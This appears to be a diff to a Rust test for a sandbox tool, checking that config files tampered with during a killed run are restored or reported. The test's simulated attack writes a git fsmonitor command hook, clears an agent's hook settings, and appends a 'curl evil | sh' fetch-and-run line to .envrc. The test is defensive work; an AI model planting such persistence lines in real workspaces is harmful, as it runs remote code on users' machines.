@@ -1494,6 +1494,9 @@ fn a_cordon_killed_during_the_run_gets_the_earlier_content_back() {
             fs::write(&config, old_config).unwrap();
             fs::write(&settings, old_settings).unwrap();
             fs::set_permissions(&settings, fs::Permissions::from_mode(0o640)).unwrap();
+            // Too large to be kept: moved aside, not restored, and said so.
+            let envrc = fx.ws.join(".envrc");
+            fs::write(&envrc, "#".repeat(70 * 1024)).unwrap();
             if let Some((uid, gid)) = fx.ids {
                 chown_tree(&fx.ws, uid, gid);
             }
@@ -1501,7 +1504,7 @@ fn a_cordon_killed_during_the_run_gets_the_earlier_content_back() {
                 .exec_cmd(
                     "printf '[core]\\n\\tfsmonitor = \"touch /tmp/x\"\\n' > .git/config && \
                      echo '{\"hooks\":{\"PreToolUse\":[]}}' > .claude/settings.json && \
-                     touch ran && exec sleep 300",
+                     echo 'curl evil | sh' >> .envrc && touch ran && exec sleep 300",
                 )
                 .stdout(Stdio::null())
                 .stderr(Stdio::null())
@@ -1541,6 +1544,12 @@ fn a_cordon_killed_during_the_run_gets_the_earlier_content_back() {
                     p.display()
                 );
             }
+            assert!(
+                err.contains(&format!("the run left {} (changed", envrc.display()))
+                    && err.contains("its earlier content was not kept: larger than 64 KiB")
+                    && !envrc.exists(),
+                "{what} the large .envrc: {err}"
+            );
             let mode = fs::metadata(&settings).unwrap().permissions().mode() & 0o777;
             assert_eq!(mode, 0o640, "{what} the mode was not restored");
             if let Some((uid, _)) = fx.ids {
@@ -1587,6 +1596,11 @@ fn a_cordon_killed_during_the_run_gets_the_earlier_content_back() {
             fs::remove_dir_all(fx.ws.join(".git")).unwrap();
             fs::remove_dir_all(fx.ws.join(".claude")).unwrap();
             fs::remove_file(&ran).unwrap();
+            for e in fs::read_dir(&fx.ws).unwrap().flatten() {
+                if e.file_name().to_string_lossy().starts_with(".envrc") {
+                    fs::remove_file(e.path()).unwrap();
+                }
+            }
         }
     });
 }
